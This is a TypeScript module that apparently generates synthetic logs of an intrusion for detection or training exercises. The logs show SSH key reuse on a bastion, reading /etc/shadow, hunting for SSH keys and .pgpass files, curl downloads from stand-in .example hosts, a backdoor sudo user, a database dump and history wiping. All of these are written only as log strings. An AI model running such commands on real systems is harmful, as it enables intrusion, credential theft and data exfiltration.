import { second } from '../clock.ts'
import { type Host, hostEntry } from '../entry.ts'
import { inside } from '../ordinary/ssh-work.ts'
import { fingerprintOf } from '../people.ts'
import { chanceOf } from '../random.ts'
import { type Act, acts } from './acts.ts'
import type { Pace } from './intruder.ts'
import { sudoLine, type Teller } from './story.ts'

/** What was done on the hosts. */
export interface HostVisit {
  readonly account: string
  readonly signedInAt: number
  /** Accounts made on the bastion. */
  readonly made: string | undefined
  /** Whether the way led on to the database host. */
  readonly movedOn: boolean
  /** The name a tool was fetched from. */
  readonly domain: string | undefined
}

/** The fingerprint of a machine's key, as ordinary work shows it. */
export function machineFingerprint(seed: number, account: string): string {
  return `SHA256:${fingerprintOf(chanceOf(seed, 'host-key', account))}`
}

interface Entry {
  readonly address: string
  readonly account: string
  readonly pace: Pace
  /** What the key was found with: the identity of the step before. */
  readonly from: string
}

/** A sign-in at the bastion with a machine's key, a look around as root, and often the way on to the database host. */
export function bastionByKey(teller: Teller, { address, account, pace, from }: Entry): HostVisit {
  const { chance, world } = teller
  const fingerprint = machineFingerprint(world.seed, account)
  const signedInAt = signIn(teller, { host: 'bastion01', account, address, fingerprint, act: acts.shell })
  teller.step(from, `${account} on bastion01`, 'SSH with the key found', account)
  for (const [act, command] of looks(teller)) {
    teller.wait(2 * second, Math.max(30 * second, pace.call[1]))
    teller.host(act, account, sudoLine({ host: 'bastion01', user: account, command }))
  }
  const domain = chance.odds(0.5) ? fetchTool(teller, account) : undefined
  const made = chance.odds(0.5) ? addUser(teller) : undefined
  const movedOn = chance.odds(0.75)
  if (movedOn) moveOn(teller, { account, fingerprint, pace })
  teller.wait(5 * second, 90 * second)
  if (chance.odds(0.5))
    teller.host(acts.history, account, sudoLine({ host: 'bastion01', user: account, command: '/usr/bin/truncate -s 0 /root/.bash_history' }))
  return { account, signedInAt, made, movedOn, domain }
}

export interface SignIn {
  readonly host: Host
  readonly account: string
  readonly address: string
  readonly fingerprint: string
  readonly act: Act
}

/** The lines of a sign-in that worked: the sign-in is the attack's, the session's lines too. */
export function signIn(teller: Teller, { host, account, address, fingerprint, act }: SignIn): number {
  const { chance } = teller
  const program = `sshd[${chance.between(2_000, 60_000)}]`
  const at = teller.host(act, account, {
    host,
    program,
    message: `Accepted publickey for ${account} from ${address} port ${chance.between(40_000, 60_999)} ssh2: ED25519 ${fingerprint}`,
  })
  teller.wait(30, 90)
  teller.host(act, account, {
    host,
    program,
    message: `pam_unix(sshd:session): session opened for user ${account}(uid=${account === 'backup' ? 34 : 998}) by ${account}(uid=0)`,
  })
  return at
}

function looks({ chance }: Teller): (readonly [Act, string])[] {
  const commands: (readonly [Act, string])[] = [
    [acts.hostLook, '/usr/bin/id'],
    [acts.hostLook, '/usr/bin/uname -a'],
    [acts.hostLook, '/usr/sbin/ss -antp'],
    [acts.hostLook, '/usr/bin/last -n 50'],
    [acts.credentialFiles, '/usr/bin/cat /etc/shadow'],
    [acts.credentialFiles, '/usr/bin/find /home -name id_* -o -name .pgpass'],
    [acts.rootShell, '/bin/bash'],
  ]
  return chance.shuffle(commands).slice(0, chance.between(4, 7))
}

function fetchTool(teller: Teller, account: string): string {
  const { chance } = teller
  const domain = chance.pick(['files.update-mirror.example', 'cdn.pkg-cache.example', 'get.agent-sync.example'])
  teller.wait(4 * second, 60 * second)
  teller.host(
    acts.tool,
    account,
    sudoLine({ host: 'bastion01', user: account, command: `/usr/bin/curl -fsSL -o /tmp/.x11 http://${domain}/a/${chance.hex(6)}` }),
  )
  teller.indicator('domain', domain)
  return domain
}

function addUser(teller: Teller): string {
  const { chance } = teller
  const name = chance.pick(['sysupdate', 'ntpd2', 'svc-log'])
  const uid = chance.between(1_050, 1_090)
  teller.wait(4 * second, 60 * second)
  teller.host(acts.localUser, 'root', {
    host: 'bastion01',
    program: `useradd[${chance.between(2_000, 60_000)}]`,
    message: `new user: name=${name}, UID=${uid}, GID=${uid}, home=/home/${name}, shell=/bin/bash, from=/dev/pts/1`,
  })
  teller.wait(second, 9 * second)
  teller.host(acts.localUser, 'root', {
    host: 'bastion01',
    program: `usermod[${chance.between(2_000, 60_000)}]`,
    message: `add '${name}' to group 'sudo'`,
  })
  return name
}

/** From the bastion to the database host, where the bookings are packed. */
function moveOn(teller: Teller, { account, fingerprint, pace }: { account: string; fingerprint: string; pace: Pace }): void {
  teller.wait(...pace.call)
  signIn(teller, { host: 'db01', account, address: inside.bastion01, fingerprint, act: acts.shell })
  teller.step(`${account} on bastion01`, `${account} on db01`, 'SSH', account)
  const commands = [
    [acts.hostLook, 'postgres', '/usr/bin/psql -l'],
    [acts.archive, 'postgres', '/usr/bin/pg_dump --format=custom --file=/tmp/.b.dump bookings'],
    [acts.archive, 'root', '/usr/bin/tar czf /tmp/.c.tgz /tmp/.b.dump /srv/backup'],
  ] as const
  for (const [act, target, command] of commands) {
    teller.wait(4 * second, 2 * Math.max(20 * second, pace.call[1]))
    teller.host(act, account, sudoLine({ host: 'db01', user: account, command, target }))
  }
}

/** Lines of a session that ends, whoever's it was. */
export function sessionEnd(given: { at: number; host: Host; account: string }): ReturnType<typeof hostEntry> {
  return hostEntry({ at: given.at, host: given.host, program: 'systemd-logind[612]', message: `Removed session of user ${given.account}.` })
}
